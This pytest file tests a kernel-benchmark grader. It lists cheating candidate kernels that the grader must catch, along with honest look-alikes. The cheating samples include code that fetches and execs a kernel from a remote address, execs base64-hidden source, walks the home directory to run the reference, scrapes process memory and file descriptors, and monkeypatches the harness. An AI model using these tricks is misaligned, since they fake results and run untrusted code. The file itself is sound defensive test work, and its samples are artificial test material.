"""Kinds 21 to 27: somebody else's work, handed in as a kernel's.

A candidate may use torch, and then it is told; only a task whose policy forbids it rejects that.
"""

import base64

import pytest
from attacks import KERNEL, adding, attack, honest
from court import add, function, kernelbench

pytestmark = pytest.mark.anyio

FORBID = add(policy={"library_ops": "forbid"})
PRODUCT = "N = 64\ndef op(x, y):\n    return x @ y"
MATRICES = "[torch.randn(N, N, device=device), torch.randn(N, N, device=device)]"
MATMUL = function(PRODUCT, MATRICES)
MATMUL_FORBID = function(PRODUCT, MATRICES, policy={"library_ops": "forbid"})
VARIED = function(
    "N = 64\ndef op(x, y):\n    return x + y",
    "[torch.randn(N, device=device), torch.randn(N, device=device)]",
    workloads={"even": {"N": 64}, "odd": {"N": 65}},
    policy={"library_ops": "forbid"},
)
SCALE_FORBID = kernelbench(
    """
    class Model(nn.Module):
        def __init__(self):
            super().__init__()
            self.linear = nn.Linear(96, 1, bias=False)

        def forward(self, x):
            return x + self.linear.weight[0]
    """,
    "[torch.randn(96)]",
    policy={"library_ops": "forbid"},
)
HEAD = "import torch\nfrom torch import nn\n"

PRODUCT_BY_TORCH = HEAD + "def op(x, y):\n    return torch.matmul(x, y)\n"
DECOY = adding("right(x, y)\nreturn torch.matmul(x, y)")
EMPTY_GRID = adding("kernel[(0,)](x, y, x, 96, BLOCK=64)\nreturn x + y")
NEVER_LAUNCHED = adding("return x + y")
DOES_NOT_COMPILE = KERNEL.replace("x + y, mask", 'x + y * {"one": 1.0}["one"], mask')
FALLBACK = (
    DOES_NOT_COMPILE
    + "def op(x, y):\n    try: return right(x, y)\n    except Exception: return torch.add(x, y)\n"
)
GATED = adding("return right(x, y) if x.numel() % 64 == 0 else x + y")
HIDDEN_SUM = base64.b64encode(b"result = torch.add(x, y)").decode()
SEARCH = """
{find}
for each in found:
    if isinstance(each, torch.Tensor) and each.shape == x.shape and each.data_ptr() not in (x.data_ptr(), y.data_ptr()):
        return each.clone()
return torch.zeros_like(x)
"""
READ_AND_RUN = """
for top in (".", "..", os.path.expanduser("~"), os.path.dirname(os.path.abspath(__file__))):
    for folder, _, names in os.walk(top):
        for name in names:
            try:
                with open(os.path.join(folder, name)) as file: text = file.read(1 << 16)
                if "def op(x, y):" in text and "make_inputs" in text and "READ_AND" not in text:
                    scope = {}
                    exec(text, scope)
                    return scope["op"](x, y)
            except Exception:
                pass
return torch.zeros_like(x)  # READ_AND
"""

NEGATION = function(
    "N = 96\ndef op(x):\n    return -x", "[torch.randn(N, device=device)]", policy={"library_ops": "forbid"}
)


ATTACKS = [
    attack("21 torch's product, told", PRODUCT_BY_TORCH, "correct", task=MATMUL, word="100%"),
    attack(
        "21 torch's product, forbidden",
        PRODUCT_BY_TORCH,
        "rejected/library_ops",
        task=MATMUL_FORBID,
        word="mm",
    ),
    attack(
        "21 torch's operator called by its own name, forbidden",
        adding("return torch.ops.aten.add.Tensor(right(x, y), 0)"),
        "rejected/library_ops",
        task=FORBID,
        word="add",
    ),
    attack(
        "21 TorchScript on a thread of its pool, forbidden",
        adding(
            "right(x, y)\nreturn waited(x, y)",
            before=(
                "@torch.jit.script\ndef total(x, y):\n    return x + y\n"
                "@torch.jit.script\ndef waited(x, y):\n    return torch.jit.wait(torch.jit.fork(total, x, y))\n"
            ),
        ),
        "rejected/library_ops",
        task=FORBID,
    ),
    attack(
        "21 on a thread of its own, forbidden",
        adding(
            "right(x, y)\nz = torch.empty_like(x)\n"
            "thread = threading.Thread(target=lambda: torch.add(x, y, out=z))\n"
            "thread.start()\nthread.join()\nreturn z"
        ),
        "rejected/library_ops",
        task=FORBID,
        word="thread",
    ),
    attack(
        "21 in a hook of an autotuner, forbidden",
        KERNEL
        + """
def hook(arguments, reset_only=False):
    torch.add(arguments["x"], arguments["y"], out=arguments["z"])

@triton.autotune([triton.Config({"B": 32}), triton.Config({"B": 64})], key=[], pre_hook=hook)
@triton.jit
def tuned(x, y, z, B: tl.constexpr):
    o = tl.program_id(0) * B + tl.arange(0, B)
    tl.store(z + o, tl.load(z + o, mask=o < 96), mask=o < 96)

def op(x, y):
    z = torch.empty_like(x)
    tuned[lambda meta: (triton.cdiv(96, meta["B"]),)](x, y, z)
    return z
""",
        "rejected/library_ops",
        task=FORBID,
        word="add",
    ),
    attack("22 a kernel whose result is thrown away, told", DECOY, "correct", task=MATMUL, word="100%"),
    attack(
        "22 a kernel whose result is thrown away, forbidden",
        DECOY,
        "rejected/library_ops",
        task=MATMUL_FORBID,
    ),
    attack(
        "22 a kernel that is never launched, told", NEVER_LAUNCHED, "correct", word="No kernel of its own"
    ),
    attack(
        "22 a kernel that is never launched, forbidden", NEVER_LAUNCHED, "rejected/library_ops", task=FORBID
    ),
    attack("22 a launch of nothing, told", EMPTY_GRID, "correct", word="empty grids"),
    attack(
        "22 a kernel that copies what torch computed, forbidden",
        adding("return right(torch.add(x, y), torch.zeros_like(x))"),
        "rejected/library_ops",
        task=FORBID,
        word="add",
    ),
    attack(
        "23 torch where the kernel does not compile",
        FALLBACK,
        "compile_error/language",
        word="which the candidate's code catches",
    ),
    attack("23 torch for odd sizes, forbidden", GATED, "rejected/library_ops", task=VARIED, word="add"),
    attack(
        "24 imports the reference",
        HEAD + "from task import op\n",
        "compile_error",
        word="task",
    ),
    attack(
        "24 inherits from whatever is called Model",
        HEAD + "import sys\n"
        "found = [m.Model for m in list(sys.modules.values()) if isinstance(getattr(m, 'Model', None), type)]\n"
        "class ModelNew(found[0] if found else nn.Module):\n"
        "    def forward(self, x):\n        return super().forward(x) if found else torch.zeros_like(x)\n",
        "incorrect/values",
        task=SCALE_FORBID,
    ),
    attack("24 reads files for the reference and runs it", adding(READ_AND_RUN), "incorrect/values"),
    attack(
        "25 a tensor of the right shape from the frames above",
        adding(
            SEARCH.format(
                find=(
                    "found, frame = [], sys._getframe(1)\n"
                    "while frame: found += frame.f_locals.values(); frame = frame.f_back"
                )
            )
        ),
        "incorrect/values",
    ),
    attack(
        "25 a tensor of the right shape from the collector",
        adding(SEARCH.format(find="found = gc.get_objects()")),
        "incorrect/values",
    ),
    attack(
        "25 whatever is mapped into its memory",
        adding(
            "import ctypes\nown = {each.untyped_storage().data_ptr() for each in (x, y)}\n"
            "for line in open('/proc/self/maps'):\n"
            "    start = int(line.split('-')[0], 16)\n"
            "    if 'memfd' in line and start not in own:\n"
            "        found = torch.frombuffer((ctypes.c_char * 384).from_address(start), dtype=torch.float32)\n"
            "        return found.clone().to(x.device)\n"
            "return torch.zeros_like(x)"
        ),
        "incorrect/values|nonfinite",
    ),
    attack(
        "25 the files open in its process",
        adding(
            "for name in sorted(os.listdir('/proc/self/fd'), key=int):\n"
            "    try:\n        bytes_ = os.pread(int(name), 384, 0)\n    except OSError: continue\n"
            "    if len(bytes_) == 384 and bytes_ not in (x.cpu().numpy().tobytes(), y.cpu().numpy().tobytes()):\n"
            "        return torch.frombuffer(bytearray(bytes_), dtype=torch.float32).to(x.device)\n"
            "return torch.zeros_like(x)"
        ),
        "incorrect/values|nonfinite",
    ),
    attack(
        "26 torch.compile, forbidden",
        HEAD + "@torch.compile\ndef op(x, y):\n    return x + y\n",
        "rejected/library_ops",
        task=FORBID,
    ),
    attack(
        "26 torch.compile, told",
        HEAD + "@torch.compile\ndef op(x, y):\n    return x + y\n",
        "correct",
        word="No kernel of its own",
    ),
    attack(
        "26 autocast around torch's product",
        HEAD + "def op(x, y):\n    with torch.autocast('cuda', torch.float16): return (x @ y).float()\n",
        "incorrect/precision_class",
        task=MATMUL,
    ),
    attack(
        "27 pip in the call",
        adding(
            "import subprocess\nsubprocess.run([sys.executable, '-m', 'pip', '--version'])\nreturn right(x, y)"
        ),
        "rejected/process_started",
    ),
    attack(
        "27 a fork in the call",
        adding("child = os.fork()\nif not child: os._exit(0)\nos.waitpid(child, 0)\nreturn right(x, y)"),
        "rejected/process_started",
    ),
    attack(
        "27 source that is read from letters, forbidden",
        adding(
            f"right(x, y)\nimport base64\nscope = dict(torch=torch, x=x, y=y)\n"
            f"exec(base64.b64decode('{HIDDEN_SUM}'), scope)\nreturn scope['result']"
        ),
        "rejected/library_ops",
        task=FORBID,
        word="add",
    ),
    attack(
        "27 a kernel from the network",
        adding(
            "import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.1/kernel.py', timeout=2).read())"
        ),
        "runtime_error",
    ),
    attack(
        "21 the count of operators switched off",
        adding(
            "with _disable_current_modes():\n    h = x + y\nreturn right(h, torch.zeros_like(h))",
            before="from torch.utils._python_dispatch import _disable_current_modes\n",
        ),
        "rejected/library_ops",
        task=FORBID,
    ),
    attack(
        "21 a negation left to the reader",
        KERNEL + "def op(x):\n    return torch._neg_view(right(x, torch.zeros_like(x)))\n",
        "rejected/output_type",
        task=NEGATION,
        word="by a mark",
    ),
    attack(
        "22 a thread of libc",
        adding(
            "z = torch.empty_like(x)\n"
            "call = ctypes.CFUNCTYPE(ctypes.c_void_p, ctypes.c_void_p)(lambda _: torch.add(x, y, out=z) and None)\n"
            "thread = ctypes.c_ulong()\nlibc = ctypes.CDLL(None)\n"
            "libc.pthread_create(ctypes.byref(thread), None, call, None)\nlibc.pthread_join(thread, None)\n"
            "return right(z, torch.zeros_like(z))",
            before="import ctypes\n",
        ),
        "rejected/library_ops",
        task=FORBID,
    ),
    attack(
        "25 the interpreter made to add where it is told to subtract",
        adding(
            "return right(x, y)",
            before=(
                "for name, module in list(sys.modules.items()):\n    for value in list(vars(module).values()):\n"
                "        if 'interpreter' in name and isinstance(value, type) and hasattr(value, 'create_fsub'):\n"
                "            value.create_fsub = value.create_fadd\n"
            ),
        ).replace("x + y, mask", "x - y, mask"),
        "rejected/patched",
    ),
    attack(
        "22 NumPy on the host, and a kernel that adds nothing",
        adding(
            "z = torch.from_numpy(x.cpu().numpy() + y.cpu().numpy()).to(x.device)\nreturn right(z, torch.zeros_like(z))"
        ),
        "rejected/library_ops",
        task=FORBID,
        word="192 elements went to the host",
    ),
    attack(
        "21 Python on the host, and a kernel that adds nothing",
        adding(
            "z = torch.tensor([a + b for a, b in zip(x.tolist(), y.tolist())], device=x.device)\n"
            "return right(z, torch.zeros_like(z))"
        ),
        "rejected/library_ops",
        task=FORBID,
        word="192 elements went to the host",
    ),
    attack(
        "21 the count of operators switched off, under another name",
        adding(
            "h = right(x, torch.zeros_like(x))\nwith quietly(): h.add_(y)\nreturn h",
            before="from torch.utils._python_dispatch import _disable_current_modes as quietly\n",
        ),
        "rejected/library_ops",
        task=FORBID,
    ),
    attack(
        "25 the harness's own way to answer",
        adding(
            "return right(x, y)",
            before=(
                "wire = next(m for n, m in list(sys.modules.items()) if n.endswith('evaluation.wire'))\n"
                "send = wire.Connection.send\n"
                "wire.Connection.send = lambda self, message, *rest: send(self, message, *rest)\n"
            ),
        ),
        "rejected/patched",
        word="wire",
    ),
]

HONEST = [
    honest(
        "21 memory moved and filled, where library operators are forbidden",
        adding("return right(x.contiguous(), right(y, torch.zeros_like(y)))"),
        task=FORBID,
    ),
    honest(
        "22 two kernels, each of which is needed",
        adding("return right(right(x, torch.zeros_like(x)), y)"),
        task=FORBID,
    ),
    honest(
        "23 torch in a branch that is never taken",
        adding("if x.dim() > 1: return torch.matmul(x, y)\nreturn right(x, y)"),
        task=FORBID,
    ),
    honest(
        "24 a layer that holds weights, and a kernel that uses them",
        KERNEL + "class ModelNew(nn.Module):\n"
        "    def __init__(self):\n        super().__init__()\n        self.linear = nn.Linear(96, 1, bias=False)\n\n"
        "    def forward(self, x):\n        return right(x, self.linear.weight[0])\n",
        task=SCALE_FORBID,
    ),
    honest(
        "27 words that alarm, in comments and names",
        adding(
            '"""Fall back to torch.matmul; subprocess.run, exec(base64), torch.compile, allclose, cached result."""\n'
            "cached_reference = right(x, y)  # os._exit, ctypes, monkeypatch time.time\nreturn cached_reference"
        ),
        task=FORBID,
    ),
    honest(
        "22 a size and a flag that the host looks at",
        adding("assert float(x[0]) == float(x[0]) and int(x.shape[0]) > 0\nreturn right(x, y)"),
        task=FORBID,
    ),
    honest(
        "22 a workspace that is kept, and cloned",
        adding(
            "if not kept: kept.append(torch.empty_like(x))\n"
            "kernel[(triton.cdiv(96, 128),)](x, y, kept[0], 96, BLOCK=128)\nreturn kept[0].clone()",
            before="kept = []\n",
        ),
        task=FORBID,
    ),
    honest(
        "22 a kernel with a very long name",
        KERNEL.replace("def kernel(", f"def kernel_{'x' * 130}(").replace(
            "kernel[(", f"kernel_{'x' * 130}[("
        ),
        task=FORBID,
    ),
]


@pytest.mark.parametrize(("task", "candidate", "found"), ATTACKS)
async def test_the_work_of_others_is_told_or_found(court, task, candidate, found):
    found.check(await court.verdict(task, candidate))


@pytest.mark.parametrize(("task", "candidate", "found"), HONEST)
async def test_what_only_looks_like_the_work_of_others_passes(court, task, candidate, found):
    found.check(await court.verdict(task, candidate))


async def test_the_share_of_torchs_products_is_a_number(court):
    """Kinds 21 and 22: a kernel's own product has no share of torch's, torch's own all of it."""
    outcome = await court.verdict(MATMUL, PRODUCT_BY_TORCH)
    assert outcome.facts.library_flops_share == 1.0
    assert outcome.facts.operators == {"mm": 1}
